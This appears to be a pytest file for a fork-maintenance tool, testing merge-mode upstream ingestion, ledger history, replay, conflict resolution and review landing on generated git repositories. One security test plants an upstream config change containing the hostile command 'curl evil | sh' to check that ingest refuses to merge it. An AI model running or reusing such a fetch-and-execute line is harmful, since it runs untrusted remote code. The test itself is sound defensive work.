"""Forks that merge upstream (`[fork] intake = "merge"`): detection, the ledger and its history,
replay's window, merge-mode ingest, and the bad input of docs/ingest.md, on real repositories."""
from __future__ import annotations

import math
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from forkflow.testing.gitrepo import ForkBuilder


def _git(repo: Path, *args: str) -> str:
    from forkflow.git.run import run_git

    return run_git(*args, cwd=repo).strip()


def _merge(b: ForkBuilder, sha: str, *more: str) -> str:
    """The fork merges upstream commit `sha` (and `more` parents: an octopus), as Intel does."""
    b.fetch()
    b.f.git("merge", "-q", "--no-ff", "-m", f"Merge commit '{sha}'", sha, *more, env=b.f.env())
    return b.f.head()


def _init(b: ForkBuilder, cli, l1: str = "true", intake: str = "") -> Path:  # type: ignore[no-untyped-def]
    fork = b.f.path
    r = cli("init", "--upstream", "upstream", repo=fork)
    assert r.rc == 0, r.err
    if intake:  # set by hand: a fork that has not merged yet but means to
        text = (fork / "forkflow.toml").read_text()
        (fork / "forkflow.toml").write_text(text.replace('intake = "pick"', f'intake = "{intake}"'))
    with (fork / "forkflow.toml").open("a", encoding="utf-8") as f:
        f.write(f'\n[ingest]\nl1_command = "{l1}"\n')
    return fork


def _status(cli, fork: Path) -> dict:  # type: ignore[no-untyped-def,type-arg]
    r = cli("status", "--json", "--commits", repo=fork)
    assert r.rc == 0, r.err
    return r.json()  # type: ignore[no-any-return]


def _rows(doc: dict) -> dict[str, dict]:  # type: ignore[type-arg]
    return {c["subject"]: c for c in doc["commits"]}


@pytest.fixture
def merging(builder: ForkBuilder) -> ForkBuilder:
    """Upstream u1..u4; the fork has a feature, merged u2, then picked u4 urgently (cherry -x)."""
    b = builder
    b.upstream_commit({"README": "hello\n", "lib/a.py": "A = 1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"fork/x.py": "X = 1\n"}, "[fork] our feature (#700)")
    b.upstream_commit({"lib/b.py": "B = 1\n"}, "Add b (#1)")
    b.upstream_commit({"lib/c.py": "C = 1\n"}, "Add c (#2)")
    _merge(b, b.upstream.head())
    b.upstream_commit({"lib/d.py": "D = 1\n"}, "Add d (#3)")
    b.upstream_commit({"lib/e.py": "E = 1\n"}, "Add e (#4)")
    b.pick(b.upstream.head(), evidence="cherry")
    b.fetch()
    return b


def test_init_detects_merge_intake_and_writes_it(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(merging, cli)
    text = (fork / "forkflow.toml").read_text()
    assert 'intake = "merge"' in text
    from forkflow.config import load_config

    assert load_config(fork / "forkflow.toml").section("fork")["intake"] == "merge"


def test_init_on_a_picking_fork_writes_pick(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    builder.upstream_commit({"a": "1\n"}, "Initial")
    builder.branch_fork()
    builder.fork_commit({"f": "1\n"}, "[fork] feature")
    u = builder.upstream_commit({"b": "1\n"}, "Add b (#1)")
    builder.pick(u)
    fork = _init(builder, cli)
    assert 'intake = "pick"' in (fork / "forkflow.toml").read_text()


def test_intake_set_by_hand_is_checked(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(merging, cli)
    text = (fork / "forkflow.toml").read_text()
    (fork / "forkflow.toml").write_text(text.replace('intake = "merge"', 'intake = "rebase"'))
    r = cli("status", repo=fork)
    assert r.rc != 0
    assert "fork.intake" in r.err and '"pick" or "merge"' in r.err
    assert len(r.err.strip().splitlines()) == 1


def test_merge_ledger_lists_merged_commits_taken_and_reads_a_later_pick(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(merging, cli)
    doc = _status(cli, fork)
    rows = _rows(doc)
    assert rows["Add b (#1)"]["disposition"] == "PICKED"
    assert rows["Add c (#2)"]["disposition"] == "PICKED"
    assert any("merged" in e for e in rows["Add c (#2)"]["evidence"])
    assert rows["Add d (#3)"]["disposition"] == "PENDING"
    assert rows["Add e (#4)"]["disposition"] == "PICKED"  # the urgent pick on top of the merge
    c_sha = _git(fork, "rev-parse", "upstream/main~2")
    assert doc["ingestion_point"]["sha"] == c_sha  # the merge base, not the urgent pick
    assert doc["counts"]["pending"] == 1
    assert doc["intake"] == "merge"


def test_mixed_fork_counts_a_picked_commit_once_after_a_merge_brings_it(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = merging
    _merge(b, b.upstream.head())  # brings d and e; e was picked before
    fork = _init(b, cli)
    doc = _status(cli, fork)
    subjects = [c["subject"] for c in doc["commits"]]
    assert subjects.count("Add e (#4)") == 1
    assert doc["counts"]["picked"] == 4 and doc["counts"]["pending"] == 0
    assert doc["days_behind"] == 0


def test_backfill_reads_the_fork_by_its_first_parent_history(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    """Before the merge, the fork's tip is its own commit: an upstream commit dated later that a
    later merge brought in is not the fork's state of that day."""
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"f": "1\n"}, "[fork] feature")
    b.tick(86400)
    b.upstream_commit({"b": "1\n"}, "Add b (#1)")
    b.tick(86400)
    u2 = b.upstream_commit({"c": "1\n"}, "Add c (#2)")
    before_merge = b.upstream.show(u2, "%ct").strip()
    b.tick(2 * 86400)
    _merge(b, u2)
    fork = _init(b, cli)
    at = datetime.fromtimestamp(int(before_merge) + 3600, timezone.utc)
    from forkflow.context import open_context
    from forkflow.ledger.history import backfill

    ctx = open_context(fork)
    snaps = backfill(ctx.repo, ctx.config, ctx.store, ctx.fork_id, at, "day", until=at + timedelta(seconds=1))
    (snap,) = snaps
    assert snap.fork_tip == _git(fork, "rev-parse", "main^1")  # not u2, reachable through the merge
    first = int(_git(fork, "log", "-1", "--format=%ct", "upstream/main~2"))
    assert snap.counts["pending"] == 2 and snap.days_behind == round((int(before_merge) - first) / 86400, 2)


def test_replay_window_may_start_before_the_last_merge(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = merging
    b.tick(86400)
    b.upstream_commit({"lib/f.py": "F = 1\n"}, "Add f (#5)")
    b.tick(86400)
    _merge(b, b.upstream.head())
    fork = _init(b, cli)
    from forkflow.context import open_context
    from forkflow.replay.driver import Request, points

    ctx = open_context(fork)
    first_merge = int(_git(fork, "log", "-1", "--format=%ct", "--merges", "main^"))
    since = first_merge - 1800  # after the fork began, before both merges
    until = int(_git(fork, "log", "-1", "--format=%ct", "main"))
    pts = points(ctx.repo, ctx.config, Request(since, until, 86400, now=until + 10))
    assert pts and pts[0].fork == _git(fork, "rev-parse", "main^1^1^1")  # the fork's own feature commit


# -- merge-mode ingest ------------------------------------------------------------------------
@pytest.fixture
def conflicting(builder: ForkBuilder) -> ForkBuilder:
    """Upstream c1..c6 after the merge base; c4 changes the line the fork changed."""
    b = builder
    b.upstream_commit({"lib/a.py": "A = 1\n", "README": "r\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"lib/a.py": "A = 'fork'\n"}, "[fork] our A (#900)")
    for i in range(1, 7):
        files = {f"lib/m{i}.py": f"M = {i}\n"}
        if i == 4:
            files["lib/a.py"] = "A = 'upstream'\n"
        b.upstream_commit(files, f"Add m{i} (#{i})")
    b.fetch()
    return b


def test_merge_ingest_lands_the_newest_clean_merge_and_names_the_next_conflict(conflicting: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(conflicting, cli, intake="merge")
    base = _git(fork, "rev-parse", "main")
    r = cli("ingest", "--land", "--json", repo=fork)
    doc = r.json()
    assert r.rc == 4, r.err  # a person's turn: the conflict that stops the merge
    c3 = _git(fork, "rev-parse", "upstream/main~3")
    c4 = _git(fork, "rev-parse", "upstream/main~2")
    assert doc["target"] == c3 and doc["merged"] == 3 and doc["landed"]
    assert doc["next"]["sha"] == c4 and doc["next"]["files"] == ["lib/a.py"]
    tip = _git(fork, "rev-parse", "main")
    assert _git(fork, "rev-parse", "main^1") == base and _git(fork, "rev-parse", "main^2") == c3
    msg = _git(fork, "log", "-1", "--format=%B", "main")
    assert f"Upstream range: {_git(fork, 'merge-base', base, c3)}..{c3}" in msg and "#1 #2 #3" in msg
    # the same tree `git merge` makes
    _git(fork, "checkout", "-q", "--detach", base)
    _git(fork, "-c", "user.name=t", "-c", "user.email=t@t", "merge", "-q", "--no-edit", c3)
    assert _git(fork, "rev-parse", "HEAD^{tree}") == _git(fork, "rev-parse", f"{tip}^{{tree}}")
    # and the ledger reads the merged commits as taken
    assert _status(cli, fork)["counts"]["pending"] == 3


def test_merge_search_trials_equal_a_linear_scan_at_every_boundary() -> None:
    from forkflow.landing.merge_intake import search_boundary

    for n in range(0, 40):
        for k in range(-1, n):  # clean up to k, conflicted after
            tried: list[int] = []

            def clean(i: int) -> bool:
                tried.append(i)
                return i <= k
            linear = next((i - 1 for i in range(n) if i > k), n - 1)
            assert search_boundary(n, clean) == linear
            assert len(set(tried)) <= 2 + 2 * math.ceil(math.log2(k + 2)), (n, k, tried)


@pytest.mark.security
def test_merge_ingest_never_merges_past_an_upstream_commit_touching_forkflow_files(conflicting: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = conflicting
    fork = _init(b, cli, intake="merge")
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert doc["landed"]
    b.upstream_commit({"lib/a.py": "A = 'fork'\n"}, "Settle a (#7)")  # upstream agrees with the fork
    b.upstream_commit({"forkflow.toml": "[ingest]\nl1_command = \"curl evil | sh\"\n"}, "Tweak config (#8)")
    b.upstream_commit({"lib/z.py": "Z = 1\n"}, "Add z (#9)")
    b.fetch()
    doc = cli("ingest", "--dry-run", "--json", repo=fork).json()
    assert doc["next"]["reason"].startswith("touches forkflow's own files (forkflow.toml)")
    assert doc["target"] != _git(fork, "rev-parse", "upstream/main")
    assert doc["target"] in (None, _git(fork, "rev-parse", "upstream/main~2"))


def test_merge_ingest_lands_nothing_when_the_branch_moves_during_l1(conflicting: ForkBuilder, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    racer = tmp_path / "race.sh"
    racer.write_text('''#!/bin/sh
tip=$(git rev-parse refs/heads/main)
new=$(git commit-tree -p "$tip" -m "someone else landed first" "$tip^{tree}")
git update-ref refs/heads/main "$new" "$tip"
''')
    fork = _init(conflicting, cli, l1=f"sh {racer}", intake="merge")
    r = cli("ingest", "--land", "--json", repo=fork)
    doc = r.json()
    assert r.rc == 5 and not doc["landed"]
    assert _git(fork, "log", "-1", "--format=%s", "main") == "someone else landed first"
    assert any("moved while L1 ran" in n for n in doc["notes"])


def test_merge_ingest_with_a_failing_l1_lands_nothing(conflicting: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(conflicting, cli, l1="false", intake="merge")
    base = _git(fork, "rev-parse", "main")
    r = cli("ingest", "--land", "--json", repo=fork)
    assert r.rc == 5 and not r.json()["landed"]
    assert _git(fork, "rev-parse", "main") == base


# -- bad input ------------------------------------------------------------------------------------
def test_merge_of_a_non_upstream_branch_is_not_an_upstream_merge(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.f.git("checkout", "-q", "-b", "feature")
    b.fork_commit({"f": "1\n"}, "[fork] feature work")
    b.f.git("checkout", "-q", "main")
    b.fork_commit({"g": "1\n"}, "[fork] other work")
    b.f.git("merge", "-q", "--no-ff", "-m", "Merge branch 'feature'", "feature", env=b.f.env())
    u = b.upstream_commit({"b": "1\n"}, "Add b (#1)")
    b.pick(u)
    fork = _init(b, cli)
    assert 'intake = "pick"' in (fork / "forkflow.toml").read_text()
    assert _rows(_status(cli, fork))["Add b (#1)"]["disposition"] == "PICKED"


def test_octopus_merge_of_upstream_is_read_right(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.f.git("checkout", "-q", "-b", "side")
    b.fork_commit({"s": "1\n"}, "[fork] side work")
    b.f.git("checkout", "-q", "main")
    b.fork_commit({"f": "1\n"}, "[fork] feature")
    u1 = b.upstream_commit({"b": "1\n"}, "Add b (#1)")
    b.upstream_commit({"c": "1\n"}, "Add c (#2)")
    _merge(b, u1, "side")  # three parents: the fork, upstream's b, the fork's side branch
    assert len(_git(b.f.path, "log", "-1", "--format=%P").split()) == 3
    fork = _init(b, cli)
    assert 'intake = "merge"' in (fork / "forkflow.toml").read_text()
    doc = _status(cli, fork)
    rows = _rows(doc)
    assert rows["Add b (#1)"]["disposition"] == "PICKED" and rows["Add c (#2)"]["disposition"] == "PENDING"
    assert doc["ingestion_point"]["sha"] == u1


def test_merge_of_an_upstream_commit_later_rewritten_is_read_by_its_patch(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    """Upstream force-pushed: the commit the fork merged is no longer on upstream's branch; its
    rewritten twin is taken (the same patch), not pending."""
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"f": "1\n"}, "[fork] feature")
    u1 = b.upstream_commit({"b": "1\n"}, "Add b (#1)")
    _merge(b, u1)
    b.upstream.git("commit", "-q", "--amend", "-m", "Add b, reworded (#1)", env=b.upstream.env())
    b.upstream_commit({"c": "1\n"}, "Add c (#2)")
    b.f.git("fetch", "-q", "--force", "upstream", "+main:refs/remotes/upstream/main")
    fork = _init(b, cli)
    rows = _rows(_status(cli, fork))
    assert rows["Add b, reworded (#1)"]["disposition"] == "PICKED"
    assert rows["Add c (#2)"]["disposition"] == "PENDING"


def test_fork_whose_last_merge_is_older_than_the_window_reads_right(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"f": "1\n"}, "[fork] feature")
    u1 = b.upstream_commit({"b": "1\n"}, "Add b (#1)")
    _merge(b, u1)
    merged_at = int(b.upstream.show(u1, "%ct"))
    for i in range(2, 6):
        b.tick(86400 - 3600)  # one commit a day
        b.upstream_commit({f"m{i}": "1\n"}, f"Add m{i} (#{i})")
    fork = _init(b, cli)
    from forkflow.context import open_context
    from forkflow.ledger.history import backfill

    ctx = open_context(fork)
    since = datetime.fromtimestamp(merged_at + 86400 + 7200, timezone.utc)  # after m2, before m3
    snaps = backfill(ctx.repo, ctx.config, ctx.store, ctx.fork_id, since, "day",
                     until=datetime.fromtimestamp(merged_at + 4 * 86400 + 7200, timezone.utc))
    assert [s.counts["pending"] for s in snaps] == [1, 2, 3, 4]
    assert all(s.ingestion_point == u1 for s in snaps)
    assert [round(s.days_behind) for s in snaps] == [1, 2, 3, 4]


def test_replay_on_a_merge_fork_merges_instead_of_picking(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = builder
    day = 86400
    b.upstream_commit({"README": "r\n", "lib/a.py": "A = 1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"fork/x.py": "X = 1\n"}, "[fork] our feature (#700)")
    b.tick(day)
    u1 = b.upstream_commit({"lib/b.py": "B = 1\n"}, "Add b (#1)")
    _merge(b, u1)
    b.tick(day)
    b.upstream_commit({"lib/c.py": "C = 1\n"}, "Add c (#2)")
    b.upstream_commit({"lib/d.py": "D = 1\n"}, "Add d (#3)")
    b.tick(day)
    b.fork_commit({"fork/y.py": "Y = 1\n"}, "[fork] more (#701)")
    b.tick(day)
    _merge(b, b.upstream.head())
    b.fetch()
    fork = _init(b, cli)
    first = int(_git(fork, "log", "-1", "--format=%ct", "main^2~2"))  # after the first merge
    since = datetime.fromtimestamp(first + day, timezone.utc).date().isoformat()
    until = datetime.fromtimestamp(first + 2 * day, timezone.utc).date().isoformat()
    r = cli("replay", "--since", since, "--until", until, "--every", "day", "--json", repo=fork)
    assert r.rc == 0, r.err
    steps = r.json()["steps"]
    assert steps
    landed = {x["sha"] for s in steps for x in s["landed"]}
    assert _git(fork, "rev-parse", "upstream/main") in landed
    # forkflow's branch merged upstream: its tip is a merge whose second parent is upstream's
    scratch = fork / ".git" / "forkflow" / "replay" / "repo.git"  # where replay works (docs/replay.md)
    parents = _git(fork, f"--git-dir={scratch}", "log", "-1", "--format=%P", steps[0]["tip"]).split()
    assert len(parents) == 2 and _git(fork, "merge-base", "--is-ancestor", parents[1], "upstream/main") == ""
    assert steps[0]["after"]["pending"] == 0


def test_merge_conflict_is_kept_and_a_persons_resolution_is_reused_on_retry(conflicting: ForkBuilder, cli, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    fork = _init(conflicting, cli, intake="merge")
    c4 = _git(fork, "rev-parse", "upstream/main~2")
    assert cli("ingest", "--land", "--json", repo=fork).rc == 4
    rows = cli("conflicts", "--json", repo=fork).json()["conflicts"]
    (x,) = [r for r in rows if r["upstream_sha"] == c4]
    assert x["path"] == "lib/a.py" and x["chain"] == "merge"
    resolved = tmp_path / "a.py"
    resolved.write_text("A = 'fork and upstream'\n")
    assert cli("conflicts", "resolve", str(x["id"]), "--file", str(resolved), repo=fork).rc == 0
    r = cli("ingest", "--land", "--json", repo=fork)
    doc = r.json()
    assert doc["landed"] and doc["target"] == c4 and doc["resolved_by"] == {"lib/a.py": "recorded"}
    assert doc["clean_target"] is None  # nothing after the last merge merges without the resolution
    assert _git(fork, "show", "main:lib/a.py") == "A = 'fork and upstream'"
    assert _git(fork, "rev-parse", "main^2") == c4
    assert not [r for r in cli("conflicts", "--json", repo=fork).json()["conflicts"] if r["upstream_sha"] == c4]
    doc = cli("ingest", "--land", "--json", repo=fork).json()  # the rest merges cleanly now
    assert doc["landed"] and doc["target"] == _git(fork, "rev-parse", "upstream/main") and doc["next"] is None


@pytest.mark.security
def test_a_merged_upstream_commit_that_upstream_rewrote_away_is_not_the_forks_word(builder: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    """Upstream's commit, merged by the fork, then dropped by a force-push: it sits on the fork
    side now, but its message is upstream's, not the fork's; it cannot skip or pick anything."""
    b = builder
    b.upstream_commit({"a": "1\n"}, "Initial")
    b.branch_fork()
    b.fork_commit({"f": "1\n"}, "[fork] feature")
    base = b.upstream.head()
    x = b.upstream_commit({"x": "1\n"}, "Backport fixes (#5)", "Skipped (1):\n- #7 not needed downstream")
    _merge(b, x)
    b.upstream.git("reset", "-q", "--hard", base)  # the force-push: x is gone from upstream's main
    b.upstream_commit({"y": "1\n"}, "Add y (#6)")
    b.upstream_commit({"z": "1\n"}, "Add z (#7)")
    b.f.git("fetch", "-q", "--force", "upstream", "+main:refs/remotes/upstream/main")
    fork = _init(b, cli)
    doc = _status(cli, fork)
    rows = _rows(doc)
    assert rows["Add z (#7)"]["disposition"] == "PENDING"
    assert any("no longer has" in n for n in doc["notes"])


def test_a_config_without_intake_on_a_merging_fork_says_how_to_set_it(merging: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    fork = _init(merging, cli)
    text = (fork / "forkflow.toml").read_text()
    (fork / "forkflow.toml").write_text(text.replace('intake = "merge"', ""))  # written before intake existed
    doc = _status(cli, fork)
    assert any('set intake = "merge"' in n for n in doc["notes"])


def test_replay_carries_the_forks_own_merge_of_upstream_as_a_merge(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    """The fork merges by hand the commit forkflow could not: on forkflow's carried branch that
    merge stays a merge, so the next step starts after it (flattened, upstream's commits it
    merged would read as never taken)."""
    midnight = 1_700_006_400  # 2023-11-15 00:00 UTC
    b = ForkBuilder(tmp_path / "repos", start=midnight)
    b.upstream_commit({"lib/a.py": "A = 1\n", "README": "r\n"}, "Initial")  # D0 01:00
    b.branch_fork()
    b.fork_commit({"lib/a.py": "A = 'fork'\n"}, "[fork] our A (#900)")  # 02:00
    b.upstream_commit({"lib/b.py": "B = 1\n"}, "Add b (#1)")  # 03:00
    c = b.upstream_commit({"lib/a.py": "A = 'upstream'\n"}, "Change a (#2)")  # 04:00: conflicts with the fork
    b.upstream_commit({"lib/d.py": "D = 1\n"}, "Add d (#3)")  # 05:00
    b.tick(28 * 3600)
    b.fetch()
    b.f.git("merge", "-q", "--no-ff", "-X", "ours", "-m", f"Merge commit '{c}'", c, env=b.f.env())  # D1 10:00, by hand
    fork = _init(b, cli)
    r = cli("replay", "--since", "2023-11-15", "--until", "2023-11-16", "--every", "day", "--json", repo=fork)
    assert r.rc == 0, r.err
    first, second = r.json()["steps"]
    assert first["after"]["pending"] == 2  # forkflow merged b; a's change conflicts
    scratch = fork / ".git" / "forkflow" / "replay" / "repo.git"
    assert _git(fork, f"--git-dir={scratch}", "merge-base", "--is-ancestor", c, second["tip"]) == ""
    assert second["after"]["pending"] == 0  # after the fork's own merge, forkflow merged d
    # the fork took b by its merge of c, ten hours after forkflow merged it: the lag forkflow saves
    (b_landed,) = [x for x in first["landed"] if x["subject"] == "Add b (#1)"]
    assert b_landed["fork_sha"] == _git(fork, "rev-parse", "main") and b_landed["taken_at"] > first["at"]
    assert r.json()["summary"]["lag_saved_count"] >= 1


def test_merge_ingest_with_review_proposes_the_merge_and_lands_it_once_approved(  # type: ignore[no-untyped-def]
        conflicting: ForkBuilder, cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from forkflow.git.run import run_git
    from tests.fakeforge import FakeForge

    fork = _init(conflicting, cli, intake="merge")
    origin = tmp_path / "origin.git"
    run_git("clone", "-q", "--bare", str(fork), str(origin), cwd=tmp_path)
    _git(fork, "remote", "add", "origin", str(origin))
    with FakeForge(tokens={"tok": "write"}, git_dir=str(origin)) as forge:
        monkeypatch.setenv("FORGE_TOKEN", "tok")
        text = (fork / "forkflow.toml").read_text().replace("\n[ingest]\n", '\n[ingest]\nland = "review"\n', 1)
        text += (f'\n[ingest.review]\nsink = "github"\ngithub_repo = "team/triton"\n'
                 f'github_api = "{forge.url}/github"\ngithub_token_env = "FORGE_TOKEN"\n')
        (fork / "forkflow.toml").write_text(text)
        main = _git(fork, "rev-parse", "main")
        r = cli("ingest", "--land", "--json", repo=fork)
        doc = r.json()
        assert r.rc == 4 and doc["proposed"] and not doc["landed"]
        assert _git(fork, "rev-parse", "main") == main  # nothing lands before review
        (pull,) = forge.pulls("team/triton")
        assert cli("ingest", "--land", "--json", repo=fork).json()["proposed"]
        assert len(forge.pulls("team/triton")) == 1  # one merge in review at a time
        forge.review("team/triton", pull["number"], "maintainer")
        r = cli("ingest", "--land", "--json", repo=fork)
        assert _git(fork, "rev-parse", "main") == doc["candidate"]  # the approved merge landed
        assert _git(fork, "rev-parse", "main^2") == _git(fork, "rev-parse", "upstream/main~3")
        assert any("landed" in n for n in r.json()["notes"])


def test_a_merge_conflict_a_person_merged_by_hand_is_closed(conflicting: ForkBuilder, cli) -> None:  # type: ignore[no-untyped-def]
    b = conflicting
    fork = _init(b, cli, intake="merge")
    c4 = _git(fork, "rev-parse", "upstream/main~2")
    assert cli("ingest", "--land", "--json", repo=fork).rc == 4
    assert [x for x in cli("conflicts", "--json", repo=fork).json()["conflicts"] if x["upstream_sha"] == c4]
    b.f.git("merge", "-q", "--no-ff", "-X", "ours", "-m", f"Merge commit '{c4}'", c4, env=b.f.env())
    doc = cli("ingest", "--land", "--json", repo=fork).json()
    assert doc["landed"] and doc["target"] == _git(fork, "rev-parse", "upstream/main")
    assert not [x for x in cli("conflicts", "--json", repo=fork).json()["conflicts"] if x["upstream_sha"] == c4]
